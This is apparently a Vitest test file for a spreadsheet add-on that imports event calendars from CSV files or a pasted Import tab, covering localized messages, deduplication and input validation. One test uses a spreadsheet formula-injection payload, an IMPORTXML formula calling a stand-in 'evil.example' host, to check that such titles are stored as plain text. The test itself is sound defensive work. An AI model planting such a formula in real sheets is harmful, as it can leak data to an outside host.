import { readFileSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { readTable } from '../../../shared/calendar-import/read-table'
import { headerRow } from '../../../shared/workbook/tabs'
import { createTestbed } from '../testing/action-testbed'
import { runImportEvents } from './import-events'

const CALENDAR_2023 = readFileSync(
  path.join(import.meta.dirname, '../../../tests/fixtures/outreach-calendar-2023.csv'),
  'utf8'
)

/** What the sidebar sends for a CSV file: the rows readTable parsed in the browser. */
function csvFile(text: string) {
  const { rows, unclosedQuoteRows } = readTable(text)
  return { table: rows as string[][], unclosedQuoteRows }
}

function eventRows(bed: ReturnType<typeof createTestbed>) {
  const [header = [], ...rows] = bed.values('Events')
  return rows.map((row) =>
    Object.fromEntries(header.map((name, index) => [String(name), row[index]]))
  )
}

describe('Import events from a CSV file the sidebar read', () => {
  it('appends the events of the 2023 calendar and reports its problems in the user’s language', () => {
    const bed = createTestbed({ locale: 'es' })
    const result = runImportEvents(bed.host, csvFile(CALENDAR_2023))
    if (!result.ok) throw new Error(result.message)
    expect(result.source).toBe('file')
    expect(result.added).toBeGreaterThan(40)
    expect(eventRows(bed)).toHaveLength(result.added)
    expect(result.addedIds).toEqual(eventRows(bed).map((row) => row.ID))
    expect(result.problems.length).toBeGreaterThan(0)
    expect(result.problems.every((problem) => problem.tab === null && problem.row !== null)).toBe(
      true
    )
    expect(result.message).toMatch(/^Eventos añadidos a la pestaña Events: \d+\./)
    expect(result.errors + result.warnings).toBe(result.problems.length)
  })

  it('adds nothing when the same data is imported again', () => {
    const bed = createTestbed()
    const first = runImportEvents(bed.host, csvFile(CALENDAR_2023))
    const before = bed.values('Events')
    const second = runImportEvents(bed.host, csvFile(CALENDAR_2023))
    expect(second).toMatchObject({ ok: true, added: 0, addedIds: [] })
    if (first.ok && second.ok) expect(second.alreadyThere).toBe(first.added)
    expect(bed.values('Events')).toEqual(before)
  })

  it('stores a title that looks like a formula as the text it is', () => {
    const bed = createTestbed()
    const csv =
      'Event Name,Date,City\n"=IMPORTXML(""http://evil.example"",""//a"")",3/26/23,+1-555 Kingston\n'
    const result = runImportEvents(bed.host, csvFile(csv))
    expect(result).toMatchObject({ ok: true, added: 1 })
    const sheet = bed.fake.spreadsheet.sheet('Events')
    const title = sheet.cellAt(2, headerRow('Events').indexOf('Title') + 1)
    expect(title).toMatchObject({ value: '=IMPORTXML("http://evil.example","//a")', formula: '' })
    const city = sheet.cellAt(2, headerRow('Events').indexOf('City') + 1)
    expect(city).toMatchObject({ value: '+1-555 Kingston', formula: '' })
  })

  it('takes a table the sidebar read from a file', () => {
    const bed = createTestbed()
    const result = runImportEvents(bed.host, {
      table: [
        ['Nombre del evento', 'Fecha', 'País'],
        ['Foro de Gobernanza de Internet de Paraguay', '2023-08-16', 'Paraguay'],
        [null, null, null],
        ['LACNIC 40', '2023-10-02', 'Brasil'],
      ],
    })
    expect(result).toMatchObject({ ok: true, source: 'file', added: 2 })
    expect(eventRows(bed).map((row) => row.Country)).toEqual(['PY', 'BR'])
  })

  it.each([
    [{ csv: 'Event Name,Date\nCaribNOG 25,3/26/23' }, 'invalid-input'],
    [{ table: 'Event Name,Date' }, 'invalid-input'],
    [{ table: [['Event Name'], [{ a: 1 }]] }, 'invalid-input'],
    [{ table: [['Event Name']], unclosedQuoteRows: [0] }, 'invalid-input'],
    [{ file: 'calendar.csv' }, 'invalid-input'],
    ['Event Name,Date', 'invalid-input'],
    [{ table: [] }, 'empty'],
    [{ table: [[''], ['  ', null]] }, 'empty'],
  ])('changes nothing for %j and says why', (request, code) => {
    const bed = createTestbed({ locale: 'fr' })
    const before = bed.fake.spreadsheet.snapshot()
    const result = runImportEvents(bed.host, request)
    expect(result).toMatchObject({ ok: false, code })
    expect(result.message).not.toBe('')
    expect(bed.fake.spreadsheet.snapshot()).toEqual(before)
  })

  it('reports the rows whose quotes never close, as the CSV parser found them', () => {
    const bed = createTestbed()
    const result = runImportEvents(
      bed.host,
      csvFile('Event Name,Date\nCaribNOG 25,3/26/23\n"LACNIC 39,5/2/23\n')
    )
    expect(result).toMatchObject({ ok: true, added: 1 })
    expect(result.ok && result.problems).toContainEqual(
      expect.objectContaining({ row: 3, severity: 'error', tab: null })
    )
  })

  it('adds no row when the table has no title column, and says what is missing', () => {
    const bed = createTestbed({ locale: 'pt' })
    const result = runImportEvents(bed.host, csvFile('Date,City\n3/26/23,Kingston\n'))
    expect(result).toMatchObject({ ok: true, added: 0, errors: 1 })
    expect(eventRows(bed)).toEqual([])
  })
})

describe('Import events from the Import tab', () => {
  it('reads the pasted table, Date cells included, and marks its problem cells', () => {
    const bed = createTestbed()
    bed.fake.spreadsheet.seed('Import', [
      ['Event Name', 'Date'],
      ['CaribNOG 25', new Date('2023-03-26T03:00:00Z')],
      ['', ''],
      ['LACNIC 39', 'placeholder'],
      ['NomCom webinar', '31/2/23'],
    ])
    const result = runImportEvents(bed.host, { authMode: 'FULL' })
    if (!result.ok) throw new Error(result.message)
    expect(result.source).toBe('sheet')
    expect(eventRows(bed).find((row) => row.Title === 'CaribNOG 25')?.['Start date']).toEqual(
      new Date('2023-03-26T03:00:00Z')
    )
    const invalid = result.problems.find((problem) => problem.severity === 'error')
    expect(invalid).toMatchObject({ tab: 'Import', row: 5, column: 'Date' })
    const sheet = bed.fake.spreadsheet.sheet('Import')
    expect(sheet.cellAt(5, 2)).toMatchObject({ background: '#fce8e6' })
    expect(sheet.cellAt(5, 2).note).toMatch(/^⚠ /)
    expect(sheet.cellAt(2, 2).background).toBeNull()
  })

  it('explains how to make the Import tab when there is none', () => {
    const bed = createTestbed({ locale: 'es' })
    const result = runImportEvents(bed.host)
    expect(result).toEqual({
      ok: false,
      code: 'missing-tab',
      message:
        'No hay ninguna pestaña llamada Import. Agregue una pestaña llamada Import, pegue en ella el calendario con la fila de encabezados primero e importe de nuevo.',
      problems: [],
    })
  })

  it('asks for the Events tab when it is missing, writing nothing', () => {
    const bed = createTestbed({ setUp: false })
    bed.fake.spreadsheet.seed('Import', [
      ['Event Name', 'Date'],
      ['CaribNOG 25', '3/26/23'],
    ])
    const before = bed.fake.spreadsheet.snapshot()
    const result = runImportEvents(bed.host)
    expect(result).toMatchObject({ ok: false, code: 'missing-tab' })
    expect(result.message).toContain('The Events tab is missing')
    expect(bed.fake.spreadsheet.snapshot()).toEqual(before)
  })
})
